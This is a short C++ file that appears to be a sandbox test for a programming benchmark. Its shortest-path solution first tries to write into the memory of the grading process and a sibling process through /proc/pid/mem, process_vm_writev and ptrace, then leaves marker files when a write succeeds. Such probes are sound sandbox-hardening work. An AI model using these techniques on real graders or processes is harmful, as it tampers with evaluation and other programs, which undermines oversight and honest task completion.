// Writes into the memory of the benchmark and of another process: through /proc, by process_vm_writev() and with a
// debugger's calls. The target is the file name that this process prints, see the test.
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include "attack.h"

/// The first address of the process' stack.
static unsigned long stackOf(int pid) {
  char path[100], line[500];
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE* const maps = fopen(path, "r");
  unsigned long begin = 0;
  while (maps != nullptr && fgets(line, sizeof line, maps) != nullptr)
    if (strstr(line, "[stack]") != nullptr) sscanf(line, "%lx", &begin);
  return begin;
}

static void tryOn(int pid) {
  const unsigned long address = stackOf(pid);
  char path[100], byte = 0;
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  const int memory = open(path, O_RDWR);
  if (memory >= 0 && pwrite(memory, &byte, 1, static_cast<off_t>(address)) == 1) touch("parent-mem");
  iovec from = {&byte, 1}, to = {reinterpret_cast<void*>(address), 1};
  if (process_vm_writev(pid, &from, 1, &to, 1, 0) == 1) touch("parent-writev");
  if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) {
    touch("parent-ptrace");
    ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
  }
}

void apsp(int n, int* graph) {
  tryOn(SIBLING);
  tryOn(getppid());
  solve(n, graph);
}
